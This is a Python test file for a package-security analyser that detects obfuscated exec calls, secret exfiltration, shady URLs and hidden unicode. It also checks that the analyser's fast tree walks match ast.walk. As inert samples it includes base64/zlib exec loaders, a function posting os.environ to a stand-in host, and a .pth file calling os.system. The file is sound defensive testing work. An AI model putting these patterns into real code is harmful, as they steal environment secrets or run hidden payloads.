"""The shortcuts that make the analysis fast must not change what it finds: big, deep and
oddly encoded files still finish and report the same findings, and the fast tree walks visit
the nodes `ast.walk` does, in the same order. No test here times anything.

Every sample is inert text (URLs under example.invalid or RFC 5737 addresses), never run.
"""

from __future__ import annotations

import ast
import base64
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest
from msgspec.structs import fields

from chaingate.analysis.interface import CodeFinding
from chaingate.analysis.python import calls, detect, index
from chaingate.analysis.python.detect import analyse_file
from chaingate.core.findings import Severity

# The analyser's own sources (the detectors, the index): big, real Python to walk.
ANALYSER = sorted(Path(detect.__file__).parent.rglob("*.py"))

# Leaves the fast walks leave out: no detector looks at them.
MARKERS = (ast.expr_context, ast.operator, ast.boolop, ast.unaryop, ast.cmpop)

EVERY_SYNTAX = '''
"""Module docstring."""
from __future__ import annotations
import os, os.path as osp
from . import sibling
from base64 import *
global_value: int = 1
x = y = [1, *rest] if a else {**mapping, "k": v, None: ~w}
del x[1:2:3], y.attr
async def coroutine(a, /, b=1, *args, c: int = 2, **kw) -> None:
    global G
    async with open(p) as f, lock:
        async for item in stream:
            await item
    nonlocal_holder = lambda q=1: (yield q)
    return [i async for i in aiter() if i]
def outer():
    value = 0
    def inner():
        nonlocal value
        value += 1
    return inner
@decorator(arg)
class Klass(Base, metaclass=Meta):
    attr: "str" = f"{value!r:>{width}} and {other}"
    def method(self):
        try:
            raise ValueError from None
        except* (TypeError, ValueError) as err:
            pass
        else:
            assert self, "message"
        finally:
            pass
        while not done or (a < b <= c is not d in e):
            break
        else:
            continue
match command:
    case ["go", direction] | {"key": direction, **others}:
        pass
    case Point(x=0, y=1) if x > y:
        pass
    case [1, 2, *tail] | None | True:
        pass
    case str() as text:
        pass
    case _:
        pass
values = {k: v for k, v in items}, {s for s in items}, (g for g in items)
if (n := len(values)) > 1: print(n, sep="", end=b"")
for i, (j, k) in enumerate(pairs): pass
with ctx() as (a, b): pass
'''


def findings(path: str, source: str) -> list[tuple[str, Severity, int | None]]:
    return [(f.id, f.severity, f.line) for f in analyse_file(path, source.encode())]


def reference_walk(tree: ast.AST) -> list[ast.AST]:
    return [n for n in ast.walk(tree) if not isinstance(n, MARKERS)]


def reference_scopes(tree: ast.Module) -> Iterator[list[ast.AST]]:
    """What the scopes were computed with before: ast.walk and ast.iter_child_nodes."""
    kinds = (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef, ast.Lambda)
    for root in [tree, *(n for n in ast.walk(tree) if isinstance(n, kinds))]:
        nodes: list[ast.AST] = []
        stack = list(ast.iter_child_nodes(root))
        while stack:
            node = stack.pop()
            if not isinstance(node, MARKERS):
                nodes.append(node)
            if not isinstance(node, kinds):
                stack.extend(ast.iter_child_nodes(node))
        yield nodes


def test_fast_walks_visit_what_ast_walk_visits_in_the_same_order() -> None:
    sources = [EVERY_SYNTAX, *(p.read_text() for p in ANALYSER), Path(__file__).read_text()]
    for source in sources:
        tree = ast.parse(source)
        assert index.walk(tree) == reference_walk(tree)
        assert list(index.scopes_of(tree)) == list(reference_scopes(tree))
        ctx = index.Context("m.py", source, tree)
        index.prepare(ctx)
        assert ctx.nodes == reference_walk(tree)
        walked = ctx.nodes
        assert ctx.calls == [n for n in walked if isinstance(n, ast.Call)]
        assert ctx.assigns == [n for n in walked if isinstance(n, ast.Assign)]
        assert ctx.strings == [
            (n, n.value) for n in walked if isinstance(n, ast.Constant) and isinstance(n.value, str)
        ]
        for node in walked:
            expected = [c for c in ast.iter_child_nodes(node) if not isinstance(c, MARKERS)]
            assert index.children(node) == expected


def test_a_payload_at_the_end_of_a_big_generated_file_is_still_found() -> None:
    table = "".join(f"    ({i}, 'entry-{i}', {i * 0.5}),\n" for i in range(40_000))
    source = (
        "import base64\n"
        f"TABLE = [\n{table}]\n"
        + "".join(f"def f{i}(x):\n    return x.get({i}) or TABLE[{i}]\n" for i in range(3_000))
        + "exec(base64.b64decode(PAYLOAD))\n"
    )
    assert len(source) > 1_500_000
    line = source.count("\n")
    assert findings("pkg/_table.py", source) == [("obfuscated-exec", Severity.CRITICAL, line)]


def test_deep_expressions_finish_and_are_still_analysed() -> None:
    # A left-nested chain of 2,000 additions (ast.parse refuses about 3,000), far deeper
    # than the folding limit.
    chain = " + ".join(["'a'"] * 2_000)
    source = textwrap.dedent(f"""
        import base64, zlib
        padding = {chain}
        run = 1
        getattr(__builtins__, 'ex' + 'ec')(zlib.decompress(base64.b64decode(blob)))
    """)
    assert findings("pkg/deep.py", source) == [("obfuscated-exec", Severity.CRITICAL, 5)]


def test_long_scopes_and_many_bindings_finish() -> None:
    body = "".join(f"    v{i} = data[{i}] + v{i - 1}\n" for i in range(1, 20_000))
    source = (
        "import os, requests\n"
        "def collect(data):\n"
        "    v0 = dict(os.environ)\n"
        f"{body}"
        "    requests.post('https://collect.example.invalid/', data=v0)\n"
    )
    assert findings("pkg/collect.py", source) == [("exfiltration", Severity.HIGH, 20_003)]


def test_nesting_too_deep_to_parse_is_reported_not_raised() -> None:
    source = "x = " + "(" * 5_000 + "1" + ")" * 5_000 + "\n"
    (finding,) = analyse_file("pkg/deep.py", source.encode())
    assert finding.id == "unparsable-source" and finding.severity == Severity.LOW


def test_shady_strings_hidden_from_a_text_search_are_still_found() -> None:
    source = textwrap.dedent("""
        A = "https://\\x64iscord.com/api/webhooks/123456789/abc"
        B = ("https://pastebin" ".com/raw/abcd")
        C = "https://abc.ngro\\u212a-free.app".replace("x", "y")
        D = f"http://{host}" + "http://203.0.113.7/x"
        E = "https://sub.example.NGROK.io/x"
        F = "caf\\u00e9 https://x.oast.fun"
        G = "http://192.168.1.1/ and http://127.0.0.1/ are private"
    """)
    got = findings("pkg/urls.py", source)
    assert [line for _, _, line in got] == [2, 3, 4, 5, 6, 7]
    assert {id_ for id_, _, _ in got} == {"shady-url"}


def test_hidden_unicode_after_a_byte_order_mark() -> None:
    source = "\ufeffimport os\nname = 'ad\u200bmin'\nok = 1  # caf\u00e9\nif x: pass  # \u202e\n"
    assert findings("pkg/u.py", source) == [
        ("hidden-unicode", Severity.LOW, 2),
        ("hidden-unicode", Severity.HIGH, 4),
    ]


def test_aliases_made_late_in_a_file_still_count() -> None:
    payload = base64.b64encode(b"print('inert')").decode()
    source = textwrap.dedent(f"""
        def run():
            e(d("{payload}"))
        import base64
        d = base64.b64decode
        e = exec
    """)
    got = findings("pkg/late.py", source)
    assert ("obfuscated-exec", Severity.CRITICAL, 3) in got


def test_files_other_than_python_and_pth_are_skipped() -> None:
    assert analyse_file("pkg/data.json", b'{"exec": "base64.b64decode"}') == []
    assert analyse_file("pkg/lib.so", b"\x7fELF" + bytes(range(256)) * 100) == []
    found: list[CodeFinding] = analyse_file("pkg/x.pth", b"import os; os.system('id')\n")
    assert [f.id for f in found] == ["pth-exec"]


def _snippets() -> list[str]:
    """Every Python snippet of the detector tests and every sample of the evaluation."""
    root = Path(__file__).resolve().parents[2]
    out = [p.read_text() for p in sorted((root / "eval" / "malicious").rglob("*.py"))]
    tree = ast.parse((Path(__file__).parent / "test_python.py").read_text())
    for node in ast.walk(tree):
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            text = textwrap.dedent(node.value).lstrip("\n")
            if len(text) > 40 and "\n" in text:
                try:
                    ast.parse(text)
                except SyntaxError:
                    continue
                out.append(text)
    return out


def test_skipping_detectors_by_the_calls_a_file_makes_changes_no_finding(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    snippets = _snippets()
    assert len(snippets) > 60
    paths = ("pkg/mod.py", "pkg-1.0/setup.py")
    gated = [analyse_file(p, s.encode()) for s in snippets for p in paths]
    everything = calls.CallKinds(**{f.name: True for f in fields(calls.CallKinds)})
    monkeypatch.setattr(detect, "kinds_of_calls", lambda ctx: everything)
    full = [analyse_file(p, s.encode()) for s in snippets for p in paths]
    assert gated == full
    assert sum(map(len, gated)) > 100


def test_scopes_line_up_with_their_roots() -> None:
    for path in ANALYSER:
        source = path.read_text()
        ctx = index.Context("m.py", source, ast.parse(source))
        index.prepare(ctx)
        assert ctx.scopes == list(index.scopes_of(ctx.tree))
        assert len(ctx.scope_roots) == len(ctx.scopes)
        assert all(r.__class__ in index.SCOPE_TYPES for r in ctx.scope_roots[1:])
